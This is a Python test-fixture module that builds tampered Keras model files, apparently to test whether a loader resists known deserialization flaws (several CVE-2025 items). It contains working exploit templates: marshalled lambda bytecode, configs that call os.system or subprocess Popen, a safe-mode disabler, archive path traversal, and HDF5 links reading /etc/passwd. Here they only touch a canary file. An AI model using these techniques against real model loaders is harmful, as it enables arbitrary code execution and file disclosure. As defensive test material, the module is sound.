"""Model files that would run code, or read elsewhere, if they were believed.

Each builder takes a folder and the path of a canary, a file that the code would make.
"""

import base64
import io
import json
import marshal
import zipfile

import h5py
import keras
import numpy as np

_INPUT = (8, 8, 3)


def honest():
    """The model whose files are tampered with."""
    inputs = keras.Input(_INPUT, name="images")
    x = keras.layers.Conv2D(4, 3, name="conv")(inputs)
    x = keras.layers.Activation("relu", name="act")(x)
    x = keras.layers.GlobalAveragePooling2D(name="pool")(x)
    return keras.Model(inputs, keras.layers.Dense(10, name="head")(x), name="honest")


def _code(canary):
    """A marshalled function of one argument that makes the canary."""
    text = f"lambda x: (__import__('pathlib').Path({str(canary)!r}).touch(), x)[1]"
    return base64.b64encode(marshal.dumps(eval(text).__code__)).decode()


def _lambda(canary):
    code = {"code": _code(canary), "defaults": None, "closure": None}
    return {"class_name": "__lambda__", "config": code}


def _archive(folder, edit, members=(), old=False):
    """A `.keras` file whose description has been edited."""
    path = folder / "model.keras"
    honest().save(path)
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(files["config.json"])
    edit(config)
    files["config.json"] = json.dumps(config).encode()
    if old:
        files["metadata.json"] = b'{"keras_version": "2.15.0"}'
    files.update(members)
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return path


def _layer(config, name="act"):
    return next(each for each in config["config"]["layers"] if each["name"] == name)


def _with_layer(class_name, settings, module="keras.layers"):
    """An edit that puts another layer in the place of the activation."""

    def edit(config):
        layer = _layer(config)
        layer.update(class_name=class_name, module=module, registered_name=None)
        layer["config"] = {"name": "act", **settings}

    return edit


def _function(module, name, **settings):
    """An edit that has a Lambda layer call some function by its name."""
    described = {
        "class_name": "function",
        "module": module,
        "config": name,
        "registered_name": name,
    }
    return _with_layer("Lambda", {"function": described, **settings})


def lambda_layer(folder, canary):
    return _archive(folder, _with_layer("Lambda", {"function": _lambda(canary)}))


def lambda_output_shape(folder, canary):
    settings = {"output_shape": _lambda(canary)}
    return _archive(folder, _function("keras.ops", "relu", **settings))


def safe_mode_off(folder, canary):
    """First switches safe mode off by its name, then brings code (CVE-2025-9906)."""

    def edit(config):
        _function("keras.config", "enable_unsafe_deserialization")(config)
        pool = _layer(config, "pool")
        pool.update(class_name="Lambda")
        pool["config"] = {"name": "pool", "function": _lambda(canary)}

    return _archive(folder, edit)


def imported_function(folder, canary):
    """A config that names what to import and call (CVE-2025-1550)."""
    return _archive(folder, _function("os", "system"))


def imported_activation(folder, canary):
    def edit(config):
        _layer(config, "conv")["config"]["activation"] = {
            "class_name": "function",
            "module": "os",
            "config": "system",
            "registered_name": "system",
        }

    return _archive(folder, edit)


def imported_class(folder, canary):
    return _archive(
        folder, _with_layer("Popen", {"args": f"touch {canary}"}, "subproc")
    )


def downloader(folder, canary):
    """Keras' own functions do harm too (CVE-2025-8747)."""
    arguments = {"origin": f"file://{__file__}", "cache_dir": str(folder)}
    return _archive(folder, _function("keras.utils", "get_file", arguments=arguments))


def unpickler(folder, canary):
    return _archive(folder, _function("keras.datasets.imdb", "load_data"))


def loader(folder, canary):
    return _archive(folder, _function("keras.models", "load_model"))


def saved_model_layer(folder, canary):
    settings = {"filepath": str(folder / "evil"), "call_endpoint": "serve"}
    return _archive(folder, _with_layer("TFSMLayer", settings))


def torch_layer(folder, canary):
    settings = {"module": base64.b64encode(b"pickle").decode()}
    return _archive(folder, _with_layer("TorchModuleWrapper", settings))


def vocabulary(folder, canary):
    """Reads any file as if it were words (CVE-2025-12058)."""
    settings = {"vocabulary": "/etc/passwd", "num_oov_indices": 1}
    return _archive(folder, _with_layer("StringLookup", settings))


def out_of_the_archive(folder, canary):
    """A member that leads out of the folder it is unpacked to (CVE-2025-12060)."""
    up = "/".join([".."] * 30)
    members = {f"assets/{up}{canary}": b"", "assets/x": b""}
    return _archive(folder, lambda config: None, members)


def linked_weights(folder, canary):
    path = _archive(folder, lambda config: None)
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    stored = io.BytesIO(files["model.weights.h5"])
    with h5py.File(stored, "r+") as file:
        del file["layers/dense/vars/0"]
        file["layers/dense/vars/0"] = h5py.ExternalLink("/etc/passwd", "/x")
    files["model.weights.h5"] = stored.getvalue()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return path


def tf_keras_lambda(folder, canary):
    """The same in a `.keras` file of tf_keras."""
    function = [_code(canary), None, None]
    settings = {"function": function, "function_type": "lambda"}
    return _archive(folder, _with_layer("Lambda", settings), old=True)


def tf_keras_function(folder, canary):
    return _archive(folder, _function("os", "system"), old=True)


def _h5(folder, edit, version=None):
    path = folder / "model.h5"
    honest().save(path)
    with h5py.File(path, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        edit(config, file)
        file.attrs["model_config"] = json.dumps(config)
        if version:
            file.attrs["keras_version"] = version
    return path


def h5_lambda(folder, canary):
    """Keras once read `.h5` files in no safe mode at all (CVE-2025-9905)."""
    edit = _with_layer("Lambda", {"function": _lambda(canary)})
    return _h5(folder, lambda config, file: edit(config))


def old_h5_lambda(folder, canary):
    def edit(config, file):
        layer = _layer(config)
        layer["class_name"] = "Lambda"
        layer["config"] = {
            "name": "act",
            "function": [_code(canary), None, None],
            "function_type": "lambda",
        }

    return _h5(folder, edit, "2.11.0")


def old_h5_wrapped_lambda(folder, canary):
    """Code in a layer inside a wrapper."""

    def edit(config, file):
        inner = {"name": "i", "function": [_code(canary), None, None]}
        layer = _layer(config)
        layer["class_name"] = "TimeDistributed"
        layer["config"] = {
            "name": "act",
            "layer": {"class_name": "Lambda", "config": inner},
        }

    return _h5(folder, edit, "2.11.0")


def old_h5_link(folder, canary):
    def edit(config, file):
        other = folder / "elsewhere.h5"
        with h5py.File(other, "w") as elsewhere:
            elsewhere["x"] = np.zeros((3, 3, 3, 4), "float32")
        group = file["model_weights/conv"]
        name = group.attrs["weight_names"][0]
        del group[name]
        group[name] = h5py.ExternalLink(str(other), "/x")

    return _h5(folder, edit, "2.11.0")


def h5_stored_elsewhere(folder, canary):
    def edit(config, file):
        group = file["model_weights/head"]
        name = group.attrs["weight_names"][0]
        shape = group[name].shape
        del group[name]
        (folder / "raw").write_bytes(bytes(4 * int(np.prod(shape))))
        where = [(str(folder / "raw"), 0, h5py.h5f.UNLIMITED)]
        group.create_dataset(name, shape, "float32", external=where)

    return _h5(folder, edit)


ATTACKS = {
    function.__name__: function
    for function in (
        downloader,
        h5_lambda,
        h5_stored_elsewhere,
        imported_activation,
        imported_class,
        imported_function,
        lambda_layer,
        lambda_output_shape,
        linked_weights,
        loader,
        old_h5_lambda,
        old_h5_link,
        old_h5_wrapped_lambda,
        out_of_the_archive,
        safe_mode_off,
        saved_model_layer,
        tf_keras_function,
        tf_keras_lambda,
        torch_layer,
        unpickler,
        vocabulary,
    )
}
